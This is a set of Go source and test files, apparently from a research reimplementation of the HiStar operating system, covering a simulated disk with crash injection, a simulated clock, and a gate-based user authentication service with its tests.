				if end := off + keep; end%SectorSize != 0 {
					keep = end - end%SectorSize - off
				}
				if keep > 0 {
					d.position(off, keep, false)
					copy(d.data[off:], data[:keep])
					d.headPos = off + keep
					d.stats.CacheFlushBytes += uint64(keep)
				}
				break
			}
			budget -= int64(len(data))
		}
		d.position(off, int64(len(data)), false)
		copy(d.data[off:], data)
		d.headPos = off + int64(len(data))
		d.stats.CacheFlushBytes += uint64(len(data))
	}
	d.dirty = make(map[int64][]byte)
	d.dirtyBytes = 0
	return partial
}

// FailNextFlush arranges for the next Flush call to return err without
// destaging the cache, for crash-consistency tests.
func (d *Disk) FailNextFlush(err error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.failNextSync = err
}

// FailFlushAfter arranges for the next Flush to destage only the first n
// bytes of the cache (ascending offset order, whole sectors) and then return
// err with the remaining cached writes dropped — power failing in the middle
// of a cache destage.  The group-commit crash tests use it to tear a batch's
// flush between the log body and the header (or inside either).
func (d *Disk) FailFlushAfter(n int64, err error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.partialFlushErr = err
	d.partialFlushLeft = n
}

// Crash simulates a power failure: all cached (unflushed) writes are lost.
// Data already flushed (or written with the cache disabled) survives.
func (d *Disk) Crash() {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.dirty = make(map[int64][]byte)
	d.dirtyBytes = 0
	d.prefetchLo, d.prefetchHi = 0, 0
	d.headPos = 0
}

// SetReadAhead enables or disables the firmware look-ahead window at run
// time; the paper measures the LFS small-file read phase with prefetch both
// on and off.
func (d *Disk) SetReadAhead(bytes int64) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.params.ReadAhead = bytes
	d.prefetchLo, d.prefetchHi = 0, 0
}
