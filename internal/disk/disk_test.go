package disk

import (
	"bytes"
	"errors"
	"testing"
	"time"

	"histar/internal/vclock"
)

func testDisk(p Params) (*Disk, *vclock.Clock) {
	clk := &vclock.Clock{}
	if p.Sectors == 0 {
		p.Sectors = 1 << 16 // 32 MB
	}
	if p.BandwidthBytesPerSec == 0 {
		p.BandwidthBytesPerSec = 50e6
	}
	return New(p, clk), clk
}

func TestReadWriteRoundTrip(t *testing.T) {
	d, _ := testDisk(Params{})
	data := []byte("hello single-level store")
	if _, err := d.WriteAt(data, 4096); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(data))
	if _, err := d.ReadAt(got, 4096); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Errorf("read back %q", got)
	}
}

func TestOutOfRange(t *testing.T) {
	d, _ := testDisk(Params{})
	buf := make([]byte, 16)
	if _, err := d.ReadAt(buf, d.Size()); !errors.Is(err, ErrOutOfRange) {
		t.Errorf("read past end: %v", err)
	}
	if _, err := d.WriteAt(buf, -1); !errors.Is(err, ErrOutOfRange) {
		t.Errorf("negative offset write: %v", err)
	}
}

func TestSequentialCheaperThanRandom(t *testing.T) {
	p := Params{SeekTime: 8 * time.Millisecond, RotationalLatency: 4 * time.Millisecond}
	buf := make([]byte, 8192)

	dSeq, clkSeq := testDisk(p)
	for i := int64(0); i < 100; i++ {
		dSeq.WriteAt(buf, i*8192)
	}
	seqTime := clkSeq.Now()

	dRand, clkRand := testDisk(p)
	for i := int64(0); i < 100; i++ {
		// Jump around: every write lands far from the previous head position.
		dRand.WriteAt(buf, ((i*7919)%1000)*16384)
	}
	randTime := clkRand.Now()

	if seqTime >= randTime {
		t.Errorf("sequential writes (%v) should be cheaper than random (%v)", seqTime, randTime)
	}
	if dSeq.Stats().Seeks >= dRand.Stats().Seeks {
		t.Errorf("sequential seeks=%d random seeks=%d", dSeq.Stats().Seeks, dRand.Stats().Seeks)
	}
}

func TestWriteCacheDefersPositioningCost(t *testing.T) {
	p := Params{SeekTime: 8 * time.Millisecond, RotationalLatency: 4 * time.Millisecond}
	buf := make([]byte, 4096)

	cached, clkCached := testDisk(Params{SeekTime: p.SeekTime, RotationalLatency: p.RotationalLatency, WriteCache: true})
	uncached, clkUncached := testDisk(p)
	for i := int64(0); i < 50; i++ {
		off := ((i * 13) % 50) * 65536
		cached.WriteAt(buf, off)
		uncached.WriteAt(buf, off)
	}
	if clkCached.Now() >= clkUncached.Now() {
		t.Errorf("cached writes (%v) should be cheaper before flush than uncached (%v)",
			clkCached.Now(), clkUncached.Now())
	}
	// After a flush the data is durable and readable.
	if err := cached.Flush(); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 4096)
	if _, err := cached.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
}

func TestReadServesCachedWrites(t *testing.T) {
	d, _ := testDisk(Params{WriteCache: true})
	d.WriteAt([]byte("cached!!"), 1024)
	got := make([]byte, 8)
	d.ReadAt(got, 1024)
	if string(got) != "cached!!" {
		t.Errorf("read did not see cached write: %q", got)
	}
}

func TestCrashLosesCachedWrites(t *testing.T) {
	d, _ := testDisk(Params{WriteCache: true})
	d.WriteAt([]byte("durable!"), 0)
	d.Flush()
	d.WriteAt([]byte("volatile"), 512)
	d.Crash()
	got := make([]byte, 8)
	d.ReadAt(got, 0)
	if string(got) != "durable!" {
		t.Errorf("flushed data lost in crash: %q", got)
	}
	d.ReadAt(got, 512)
	if string(got) == "volatile" {
		t.Error("unflushed data survived the crash")
	}
}

func TestReadAheadPrefetchHits(t *testing.T) {
	p := Params{SeekTime: 8 * time.Millisecond, RotationalLatency: 4 * time.Millisecond, ReadAhead: 128 * 1024}
	d, clk := testDisk(p)
	noPrefetch, clkNo := testDisk(Params{SeekTime: p.SeekTime, RotationalLatency: p.RotationalLatency, ReadAhead: 0})

	buf := make([]byte, 1024)
	// Read a cluster of small "files" laid out near each other, skipping a
	// little between each (as a directory's files would be on disk).
	for i := int64(0); i < 50; i++ {
		d.ReadAt(buf, i*2048)
		noPrefetch.ReadAt(buf, i*2048)
	}
	if d.Stats().PrefetchHits == 0 {
		t.Error("expected prefetch hits for clustered reads")
	}
	if clk.Now() >= clkNo.Now() {
		t.Errorf("prefetch should make clustered reads faster: %v vs %v", clk.Now(), clkNo.Now())
	}
}

func TestFailNextFlush(t *testing.T) {
	d, _ := testDisk(Params{WriteCache: true})
	d.WriteAt([]byte("x"), 0)
	want := errors.New("injected")
	d.FailNextFlush(want)
	if err := d.Flush(); !errors.Is(err, want) {
		t.Errorf("Flush err = %v", err)
	}
	// The next flush succeeds.
	if err := d.Flush(); err != nil {
		t.Errorf("second flush: %v", err)
	}
}

func TestStatsAccumulate(t *testing.T) {
	d, _ := testDisk(Params{})
	d.WriteAt(make([]byte, 100), 0)
	d.ReadAt(make([]byte, 100), 0)
	s := d.Stats()
	if s.Reads != 1 || s.Writes != 1 || s.BytesRead != 100 || s.BytesWritten != 100 {
		t.Errorf("stats = %+v", s)
	}
	d.ResetStats()
	if d.Stats().Reads != 0 {
		t.Error("ResetStats did not clear")
	}
}

func TestPaperDiskParams(t *testing.T) {
	p := PaperDisk()
	if p.BandwidthBytesPerSec != 58e6 {
		t.Errorf("bandwidth = %v", p.BandwidthBytesPerSec)
	}
	if p.Sectors*SectorSize < 39e9 {
		t.Errorf("capacity too small: %d", p.Sectors*SectorSize)
	}
}
