package vclock

import (
	"sync"
	"testing"
	"time"
)

func TestAdvanceAccumulates(t *testing.T) {
	var c Clock
	if c.Now() != 0 {
		t.Fatal("zero clock should start at 0")
	}
	c.Advance(5 * time.Millisecond)
	c.Advance(3 * time.Millisecond)
	if got := c.Now(); got != 8*time.Millisecond {
		t.Errorf("Now = %v, want 8ms", got)
	}
	c.Advance(-time.Second)
	if got := c.Now(); got != 8*time.Millisecond {
		t.Errorf("negative advance must be ignored, got %v", got)
	}
	c.Reset()
	if c.Now() != 0 {
		t.Error("Reset should zero the clock")
	}
}

func TestConcurrentAdvance(t *testing.T) {
	var c Clock
	var wg sync.WaitGroup
	const workers, per = 8, 1000
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < per; j++ {
				c.Advance(time.Microsecond)
			}
		}()
	}
	wg.Wait()
	if got := c.Now(); got != workers*per*time.Microsecond {
		t.Errorf("Now = %v, want %v", got, workers*per*time.Microsecond)
	}
}
