// Package vclock provides a simulated clock shared by the simulated disk and
// network.  The LFS-style benchmarks in the paper take hundreds of seconds of
// disk time; accumulating simulated time instead of sleeping lets the
// benchmark harness reproduce those numbers in milliseconds of real time
// while preserving the latency model.
package vclock

import (
	"sync"
	"time"
)

// Clock is a monotonically advancing simulated clock.  The zero value is a
// clock at time zero, ready to use.  A Clock is safe for concurrent use.
type Clock struct {
	mu  sync.Mutex
	now time.Duration
}

// Now returns the current simulated time since the clock's epoch.
func (c *Clock) Now() time.Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// Advance moves the clock forward by d (negative d is ignored) and returns
// the new time.
func (c *Clock) Advance(d time.Duration) time.Duration {
	if d < 0 {
		d = 0
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now += d
	return c.now
}

// Reset sets the clock back to zero.
func (c *Clock) Reset() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = 0
}
