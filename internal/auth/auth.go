// Package auth implements HiStar's untrusted user authentication
// (Section 6.2, Figures 8–10).  There is no highly trusted login process: a
// directory service maps usernames to per-user authentication daemons, each
// user's daemon owns that user's ur/uw categories and grants them to clients
// that prove knowledge of the password, and a logging service records
// attempts.  Password guesses are bounded by a retry-count segment, and what
// a compromised authentication service can learn is limited to the stored
// password hash plus the single success/failure bit per attempt.
//
// One simplification relative to the paper: the check-gate invocation here
// retains the login client's ownership of the password category pir instead
// of running tainted pir3 and recovering privilege through a separately
// created return gate.  The full tainted-call-plus-return-gate pattern is
// exercised at the kernel level (see TestReturnGatePattern in
// internal/kernel); layering it under this package would only change how the
// client sheds the taint, not which privileges the service can grant.
package auth

import (
	"crypto/sha256"
	"crypto/subtle"
	"encoding"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"strings"
	"sync"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/unixlib"
)

// Errors.
var (
	ErrNoSuchUser     = errors.New("auth: no such user")
	ErrBadPassword    = errors.New("auth: authentication failed")
	ErrTooManyRetries = errors.New("auth: retry limit exceeded")
)

// MaxRetries bounds password guesses per login session, enforced through the
// retry-count segment the setup gate creates.
const MaxRetries = 3

// LogService is the append-only logging service (58 lines in the paper).
type LogService struct {
	mu      sync.Mutex
	entries []string
}

// Append records one log line.
func (l *LogService) Append(line string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.entries = append(l.entries, line)
}

// Entries returns a copy of the log.
func (l *LogService) Entries() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.entries...)
}

// userAuthService is one user's authentication daemon: it owns ur and uw,
// stores the password hash, and exposes the setup gate.
type userAuthService struct {
	user     *unixlib.User
	proc     *unixlib.Process
	passHash [32]byte
	verifier passVerifier
	setup    kernel.CEnt
}

// passVerifier holds the SHA-256 midstate over the invariant hash prefix
// "histar-auth\x00<user>\x00", computed once at registration.  Per-attempt
// hashing then resumes from the midstate and absorbs only the password,
// instead of re-hashing the domain separator and username every time — the
// invariant work Login and Verify used to redo on every attempt.
type passVerifier struct {
	state []byte
}

func newPassVerifier(user string) passVerifier {
	h := sha256.New()
	h.Write([]byte("histar-auth\x00"))
	h.Write([]byte(user))
	h.Write([]byte{0})
	st, err := h.(encoding.BinaryMarshaler).MarshalBinary()
	if err != nil {
		// crypto/sha256's marshaler cannot fail; fall back to nil state,
		// which hash() handles by hashing from scratch.
		return passVerifier{}
	}
	return passVerifier{state: st}
}

// hash returns the stored-verifier hash of password, resuming from the
// precomputed midstate when available.
func (v passVerifier) hash(user, password string) [32]byte {
	if v.state == nil {
		return hashPassword(user, password)
	}
	h := sha256.New()
	if err := h.(encoding.BinaryUnmarshaler).UnmarshalBinary(v.state); err != nil {
		return hashPassword(user, password)
	}
	h.Write([]byte(password))
	var out [32]byte
	h.Sum(out[:0])
	return out
}

// Service is the authentication facility: directory + per-user services +
// logger.
type Service struct {
	sys *unixlib.System
	Log *LogService

	mu    sync.Mutex
	users map[string]*userAuthService
}

// New creates an authentication service on sys.
func New(sys *unixlib.System) *Service {
	return &Service{sys: sys, Log: &LogService{}, users: make(map[string]*userAuthService)}
}

// hashPassword is the stored verifier; compromising the authentication
// service reveals only this, never the password itself.
func hashPassword(user, password string) [32]byte {
	return sha256.Sum256([]byte("histar-auth\x00" + user + "\x00" + password))
}

// Register creates the account (ur/uw categories plus home directory) and
// starts its authentication daemon.
func (s *Service) Register(username, password string) (*unixlib.User, error) {
	u, err := s.sys.AddUser(username)
	if err != nil && err != unixlib.ErrExist {
		return nil, err
	}
	if u == nil {
		u, _ = s.sys.LookupUser(username)
	}
	proc, err := s.sys.NewInitProcess(username)
	if err != nil {
		return nil, err
	}
	svc := &userAuthService{
		user:     u,
		proc:     proc,
		passHash: hashPassword(username, password),
		verifier: newPassVerifier(username),
	}
	if err := svc.createSetupGate(s); err != nil {
		return nil, err
	}
	s.mu.Lock()
	s.users[username] = svc
	s.mu.Unlock()
	s.Log.Append("registered " + username)
	return u, nil
}

// Lookup is the directory service: it maps a username to the container entry
// of that user's setup gate.  The directory is controlled by the
// administrator but trusted only to resolve names.
func (s *Service) Lookup(username string) (kernel.CEnt, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	svc, ok := s.users[username]
	if !ok {
		return kernel.CEnt{}, ErrNoSuchUser
	}
	return svc.setup, nil
}

// sessionState carries the per-login objects created by the setup gate
// (Figure 10): the session category x, the retry-count segment, and the
// check and grant gates.
type sessionState struct {
	x         label.Category
	checkGate kernel.CEnt
	grantGate kernel.CEnt
	retrySeg  kernel.CEnt
}

// createSetupGate builds the user's setup gate (step 2 of Figure 9).
func (svc *userAuthService) createSetupGate(s *Service) error {
	tc := svc.proc.TC
	u := svc.user
	// The gate carries the user's categories (that is what it ultimately
	// grants) and the daemon's own process categories, because the session
	// objects it creates live in the daemon's process container.
	gateLbl := label.New(label.L1,
		label.P(u.Ur, label.Star), label.P(u.Uw, label.Star),
		label.P(svc.proc.Pr, label.Star), label.P(svc.proc.Pw, label.Star))
	gid, err := tc.GateCreate(svc.proc.ProcCt, kernel.GateSpec{
		Label:     gateLbl,
		Clearance: label.New(label.L2),
		Descrip:   "auth setup gate: " + u.Name,
		Entry: func(call *kernel.GateCallCtx) []byte {
			s.Log.Append("setup attempt for " + u.Name)
			x, err := call.TC.CategoryCreateNamed("x")
			if err != nil {
				return []byte("ERR " + err.Error())
			}
			pir := decodeCategory(call.Args)
			sess := &sessionState{x: x}
			// Retry-count segment: {pir3, uw0, 1} — written under the user's
			// integrity category, readable only under the password taint.
			retryLbl := label.New(label.L1, label.P(pir, label.L3), label.P(u.Uw, label.L0))
			retrySeg, err := call.TC.SegmentCreate(svc.proc.ProcCt, retryLbl, "retry count", 8)
			if err != nil {
				return []byte("ERR " + err.Error())
			}
			sess.retrySeg = kernel.CEnt{Container: svc.proc.ProcCt, Object: retrySeg}
			// Check gate: owns uw (to update the retry count) and x (to keep
			// or withhold the session proof); clearance admits pir-tainted
			// callers.
			checkID, err := call.TC.GateCreate(svc.proc.ProcCt, kernel.GateSpec{
				Label:     label.New(label.L1, label.P(u.Uw, label.Star), label.P(x, label.Star)),
				Clearance: label.New(label.L2, label.P(pir, label.L3)),
				Descrip:   "auth check gate: " + u.Name,
				Entry:     svc.checkEntry(s, sess),
			})
			if err != nil {
				return []byte("ERR " + err.Error())
			}
			sess.checkGate = kernel.CEnt{Container: svc.proc.ProcCt, Object: checkID}
			// Grant gate: clearance {x0, 2} so only x owners may call; grants
			// ur/uw and logs the success (which the pir-tainted check gate
			// could not do itself).
			grantID, err := call.TC.GateCreate(svc.proc.ProcCt, kernel.GateSpec{
				Label:     label.New(label.L1, label.P(u.Ur, label.Star), label.P(u.Uw, label.Star)),
				Clearance: label.New(label.L2, label.P(x, label.L0)),
				Descrip:   "auth grant gate: " + u.Name,
				Entry: func(call *kernel.GateCallCtx) []byte {
					s.Log.Append("authentication success for " + u.Name)
					return []byte("GRANTED")
				},
			})
			if err != nil {
				return []byte("ERR " + err.Error())
			}
			sess.grantGate = kernel.CEnt{Container: svc.proc.ProcCt, Object: grantID}
			return encodeSession(sess)
		},
	})
	if err != nil {
		return err
	}
	svc.setup = kernel.CEnt{Container: svc.proc.ProcCt, Object: gid}
	return nil
}

// checkEntry returns the check gate's entry function (step 3): it enforces
// the retry bound, verifies the password, and decides whether the calling
// thread may keep ownership of the session category x.  On failure it
// strips x (and its own uw) from the thread before returning, so a failed
// login leaves the client with nothing.
func (svc *userAuthService) checkEntry(s *Service, sess *sessionState) kernel.GateEntry {
	return func(call *kernel.GateCallCtx) []byte {
		verdict := func(ok bool, result string) []byte {
			cur, err := call.TC.SelfLabel()
			if err != nil {
				return []byte("ERR " + err.Error())
			}
			next := cur.With(svc.user.Uw, label.L1)
			if !ok {
				next = next.With(sess.x, label.L1)
			}
			_ = call.TC.SelfSetLabel(next)
			return []byte(result)
		}
		cnt, err := call.TC.SegmentRead(sess.retrySeg, 0, 8)
		if err != nil {
			return verdict(false, "ERR retry segment: "+err.Error())
		}
		n := binary.LittleEndian.Uint64(cnt)
		if n >= MaxRetries {
			return verdict(false, "RETRY-LIMIT")
		}
		var buf [8]byte
		binary.LittleEndian.PutUint64(buf[:], n+1)
		if err := call.TC.SegmentWrite(sess.retrySeg, 0, buf[:]); err != nil {
			return verdict(false, "ERR retry update: "+err.Error())
		}
		h := svc.verifier.hash(svc.user.Name, string(call.Args))
		if subtle.ConstantTimeCompare(h[:], svc.passHash[:]) == 1 {
			return verdict(true, "OK")
		}
		return verdict(false, "BAD")
	}
}

// The session reply and the pir argument use a fixed binary layout instead
// of formatted decimal: the old fmt round-trip was re-parsed on every login
// and showed up in the cold-path profile.

// sessionMagic distinguishes a binary session reply from an "ERR ..." text
// reply on the shared gate result channel.
const sessionMagic = 0x01

const sessionWireLen = 1 + 7*8

func encodeSession(sess *sessionState) []byte {
	out := make([]byte, sessionWireLen)
	out[0] = sessionMagic
	for i, v := range [...]uint64{
		uint64(sess.x),
		uint64(sess.checkGate.Container), uint64(sess.checkGate.Object),
		uint64(sess.grantGate.Container), uint64(sess.grantGate.Object),
		uint64(sess.retrySeg.Container), uint64(sess.retrySeg.Object),
	} {
		binary.LittleEndian.PutUint64(out[1+8*i:], v)
	}
	return out
}

func decodeSession(b []byte) (*sessionState, error) {
	if len(b) != sessionWireLen || b[0] != sessionMagic {
		return nil, errors.New("auth: bad session reply " + string(b))
	}
	var v [7]uint64
	for i := range v {
		v[i] = binary.LittleEndian.Uint64(b[1+8*i:])
	}
	return &sessionState{
		x:         label.Category(v[0]),
		checkGate: kernel.CEnt{Container: kernel.ID(v[1]), Object: kernel.ID(v[2])},
		grantGate: kernel.CEnt{Container: kernel.ID(v[3]), Object: kernel.ID(v[4])},
		retrySeg:  kernel.CEnt{Container: kernel.ID(v[5]), Object: kernel.ID(v[6])},
	}, nil
}

func encodeCategory(c label.Category) []byte {
	var b [8]byte
	binary.LittleEndian.PutUint64(b[:], uint64(c))
	return b[:]
}

func decodeCategory(b []byte) label.Category {
	if len(b) != 8 {
		return 0
	}
	return label.Category(binary.LittleEndian.Uint64(b))
}

// Login authenticates client as username with the given password.  On
// success the client's thread gains ownership of the user's ur and uw and
// the process is associated with the account; on failure it gains nothing.
func (s *Service) Login(client *unixlib.Process, username, password string) error {
	s.mu.Lock()
	svc := s.users[username]
	s.mu.Unlock()
	if svc == nil {
		return ErrNoSuchUser
	}
	setup := svc.setup
	tc := client.TC
	// pir protects the password during the check.
	pir, err := tc.CategoryCreateNamed("pir")
	if err != nil {
		return err
	}
	origLbl, _ := tc.SelfLabel()
	origClr, _ := tc.SelfClearance()

	// Step 2: invoke the setup gate, which creates the session objects.  The
	// requested label carries the daemon's process categories (the session
	// objects are created in the daemon's process container) alongside the
	// user categories the gate itself provides.
	out, err := tc.GateEnter(setup, kernel.GateRequest{
		Label: origLbl.With(svc.user.Ur, label.Star).With(svc.user.Uw, label.Star).
			With(svc.proc.Pr, label.Star).With(svc.proc.Pw, label.Star),
		Clearance: origClr.With(pir, label.L3),
		Verify:    origLbl,
		Args:      encodeCategory(pir),
	})
	// Drop the structurally acquired privileges: nothing has been proven yet.
	cur, _ := tc.SelfLabel()
	_ = tc.SelfSetLabel(cur.With(svc.user.Ur, label.L1).With(svc.user.Uw, label.L1).
		With(svc.proc.Pr, label.L1).With(svc.proc.Pw, label.L1))
	if err != nil {
		return err
	}
	if strings.HasPrefix(string(out), "ERR") {
		return errors.New("auth: setup failed: " + string(out))
	}
	sess, err := decodeSession(out)
	if err != nil {
		return err
	}

	// Step 3: the password check.  The check gate's label carries uw⋆ and
	// x⋆; its entry decides whether the thread keeps x.
	lbl2, _ := tc.SelfLabel()
	clr2, _ := tc.SelfClearance()
	checkOut, err := tc.GateEnter(sess.checkGate, kernel.GateRequest{
		Label:     lbl2.With(svc.user.Uw, label.Star).With(sess.x, label.Star),
		Clearance: clr2.With(pir, label.L3),
		Verify:    lbl2.With(pir, label.Star),
		Args:      []byte(password),
	})
	if err != nil {
		return err
	}
	switch string(checkOut) {
	case "OK":
	case "RETRY-LIMIT":
		s.Log.Append("retry limit hit for " + username)
		return ErrTooManyRetries
	default:
		s.Log.Append("authentication failure for " + username)
		return ErrBadPassword
	}

	// Step 4: the grant gate ({x0, 2} clearance: only x owners) hands over
	// ur and uw durably and logs the success.
	lbl3, _ := tc.SelfLabel()
	clr3, _ := tc.SelfClearance()
	grantOut, err := tc.GateEnter(sess.grantGate, kernel.GateRequest{
		Label:     lbl3.With(svc.user.Ur, label.Star).With(svc.user.Uw, label.Star),
		Clearance: clr3,
		Verify:    lbl3,
	})
	if err != nil {
		return err
	}
	if string(grantOut) != "GRANTED" {
		return ErrBadPassword
	}
	// Owning ur/uw, the client may now raise its clearance in them so it can
	// allocate objects (file descriptors, files) at the user's labels.
	finalClr, _ := tc.SelfClearance()
	_ = tc.SelfSetClearance(finalClr.With(svc.user.Ur, label.L3).With(svc.user.Uw, label.L3))
	client.User = svc.user
	return nil
}

// Verify checks username/password against the stored verifier without
// driving the gate protocol: the session-hit fast path for services (webd's
// worker-session cache) that already hold an authenticated worker for the
// user and only need to re-check the presented credential.  It stands in
// for a session token or SSL session resumption, so it deliberately skips
// the retry-count segment — the full Login flow with its per-session retry
// bound still guards every privilege grant, because Verify never grants
// anything: it only tells the caller whether reusing an existing
// already-privileged session is justified.
func (s *Service) Verify(username, password string) error {
	s.mu.Lock()
	svc := s.users[username]
	s.mu.Unlock()
	if svc == nil {
		return ErrNoSuchUser
	}
	h := svc.verifier.hash(username, password)
	if subtle.ConstantTimeCompare(h[:], svc.passHash[:]) != 1 {
		return ErrBadPassword
	}
	return nil
}

// PasswordHashHex exposes the stored verifier, standing in for what an
// attacker who fully compromised the user's authentication daemon could
// read.
func (s *Service) PasswordHashHex(username string) (string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	svc, ok := s.users[username]
	if !ok {
		return "", ErrNoSuchUser
	}
	return hex.EncodeToString(svc.passHash[:]), nil
}
