package auth

import (
	"errors"
	"strings"
	"testing"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/unixlib"
)

func bootAuth(t *testing.T) (*unixlib.System, *Service) {
	t.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 11}})
	if err != nil {
		t.Fatal(err)
	}
	return sys, New(sys)
}

func TestSuccessfulLoginGrantsUserPrivileges(t *testing.T) {
	sys, svc := bootAuth(t)
	u, err := svc.Register("bob", "hunter2")
	if err != nil {
		t.Fatal(err)
	}
	// Bob's files exist before login; the login client starts with nothing.
	setup, _ := sys.NewInitProcess("bob")
	if err := setup.WriteFile("/home/bob/diary.txt", []byte("dear diary"), label.Label{}); err != nil {
		t.Fatal(err)
	}

	client, _ := sys.NewInitProcess("") // an sshd instance: no user privileges
	if _, err := client.ReadFile("/home/bob/diary.txt"); err == nil {
		t.Fatal("unauthenticated client must not read bob's files")
	}
	if err := svc.Login(client, "bob", "hunter2"); err != nil {
		t.Fatalf("login: %v", err)
	}
	lbl, _ := client.TC.SelfLabel()
	if !lbl.Owns(u.Ur) || !lbl.Owns(u.Uw) {
		t.Error("login should grant ownership of ur and uw")
	}
	if data, err := client.ReadFile("/home/bob/diary.txt"); err != nil || string(data) != "dear diary" {
		t.Errorf("post-login read: %q, %v", data, err)
	}
	// The log recorded the success.
	joined := strings.Join(svc.Log.Entries(), "\n")
	if !strings.Contains(joined, "authentication success for bob") {
		t.Errorf("log missing success entry: %q", joined)
	}
}

func TestWrongPasswordGrantsNothing(t *testing.T) {
	sys, svc := bootAuth(t)
	u, err := svc.Register("carol", "correct horse")
	if err != nil {
		t.Fatal(err)
	}
	client, _ := sys.NewInitProcess("")
	err = svc.Login(client, "carol", "wrong guess")
	if !errors.Is(err, ErrBadPassword) {
		t.Fatalf("expected ErrBadPassword, got %v", err)
	}
	lbl, _ := client.TC.SelfLabel()
	if lbl.Owns(u.Ur) || lbl.Owns(u.Uw) {
		t.Error("failed login must not grant user categories")
	}
	if client.User != nil {
		t.Error("failed login must not associate the user")
	}
	joined := strings.Join(svc.Log.Entries(), "\n")
	if !strings.Contains(joined, "authentication failure for carol") {
		t.Errorf("log missing failure entry: %q", joined)
	}
}

func TestRetryLimit(t *testing.T) {
	sys, svc := bootAuth(t)
	if _, err := svc.Register("dave", "pw"); err != nil {
		t.Fatal(err)
	}
	client, _ := sys.NewInitProcess("")
	// Burn through the retry budget with wrong guesses against one session.
	// Each Login call creates a fresh session, so drive the gates directly
	// through repeated failed logins and confirm the per-session limit by
	// reusing a single session's check gate.
	for i := 0; i < MaxRetries+2; i++ {
		err := svc.Login(client, "dave", "nope")
		if !errors.Is(err, ErrBadPassword) && !errors.Is(err, ErrTooManyRetries) {
			t.Fatalf("attempt %d: unexpected error %v", i, err)
		}
	}
	// The correct password still works afterwards (fresh session).
	if err := svc.Login(client, "dave", "pw"); err != nil {
		t.Errorf("correct password after failures: %v", err)
	}
}

func TestUnknownUser(t *testing.T) {
	sys, svc := bootAuth(t)
	client, _ := sys.NewInitProcess("")
	if err := svc.Login(client, "nobody", "x"); !errors.Is(err, ErrNoSuchUser) {
		t.Errorf("unknown user: %v", err)
	}
	if _, err := svc.Lookup("nobody"); !errors.Is(err, ErrNoSuchUser) {
		t.Errorf("lookup unknown: %v", err)
	}
}

func TestCompromisedServiceLearnsOnlyHash(t *testing.T) {
	_, svc := bootAuth(t)
	if _, err := svc.Register("eve-target", "s3cret passphrase"); err != nil {
		t.Fatal(err)
	}
	h, err := svc.PasswordHashHex("eve-target")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(h, "s3cret") {
		t.Error("stored verifier must not contain the password")
	}
	if len(h) != 64 {
		t.Errorf("verifier should be a 32-byte hash, got %d hex chars", len(h))
	}
}

func TestCrossUserIsolationAfterLogin(t *testing.T) {
	sys, svc := bootAuth(t)
	svc.Register("alice", "a-pass")
	svc.Register("bob", "b-pass")
	aliceSetup, _ := sys.NewInitProcess("alice")
	aliceSetup.WriteFile("/home/alice/private", []byte("alice only"), label.Label{})

	bobClient, _ := sys.NewInitProcess("")
	if err := svc.Login(bobClient, "bob", "b-pass"); err != nil {
		t.Fatal(err)
	}
	if _, err := bobClient.ReadFile("/home/alice/private"); err == nil {
		t.Error("bob's session must not read alice's files")
	}
}

func TestVerifyFastPath(t *testing.T) {
	_, svc := bootAuth(t)
	if _, err := svc.Register("dave", "open sesame"); err != nil {
		t.Fatal(err)
	}
	if err := svc.Verify("dave", "open sesame"); err != nil {
		t.Errorf("correct password: %v", err)
	}
	if err := svc.Verify("dave", "open says me"); !errors.Is(err, ErrBadPassword) {
		t.Errorf("wrong password: err=%v, want ErrBadPassword", err)
	}
	if err := svc.Verify("nobody", "x"); !errors.Is(err, ErrNoSuchUser) {
		t.Errorf("unknown user: err=%v, want ErrNoSuchUser", err)
	}
}

func TestVerifierMatchesHashPassword(t *testing.T) {
	// The midstate-resumed hash must equal the from-scratch reference for
	// arbitrary user/password combinations, including empty strings.
	cases := []struct{ user, pass string }{
		{"alice", "wonderland"},
		{"", ""},
		{"u", "p"},
		{"name-with-\x00-byte", "pass\x00word"},
	}
	for _, c := range cases {
		v := newPassVerifier(c.user)
		if got, want := v.hash(c.user, c.pass), hashPassword(c.user, c.pass); got != want {
			t.Errorf("verifier hash mismatch for %q/%q", c.user, c.pass)
		}
	}
}

func TestSessionCodecRoundTrip(t *testing.T) {
	sess := &sessionState{
		x:         label.Category(0xdeadbeefcafe),
		checkGate: kernel.CEnt{Container: 1, Object: 2},
		grantGate: kernel.CEnt{Container: 3, Object: 4},
		retrySeg:  kernel.CEnt{Container: 5, Object: 6},
	}
	got, err := decodeSession(encodeSession(sess))
	if err != nil {
		t.Fatal(err)
	}
	if *got != *sess {
		t.Errorf("round trip: got %+v, want %+v", got, sess)
	}
	if _, err := decodeSession([]byte("ERR something broke")); err == nil {
		t.Error("text error reply must not decode as a session")
	}
}

// benchAuth boots a system with one registered user for the login
// benchmarks; testing.TB so benchmarks share it.
func benchAuth(tb testing.TB) (*unixlib.System, *Service) {
	tb.Helper()
	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 11}})
	if err != nil {
		tb.Fatal(err)
	}
	svc := New(sys)
	if _, err := svc.Register("bench", "passw0rd"); err != nil {
		tb.Fatal(err)
	}
	return sys, svc
}

// BenchmarkLoginCold measures the full cold login a session miss pays:
// a fresh unprivileged process plus the three-gate authentication protocol.
func BenchmarkLoginCold(b *testing.B) {
	sys, svc := benchAuth(b)
	b.ReportAllocs()
	b.ResetTimer()
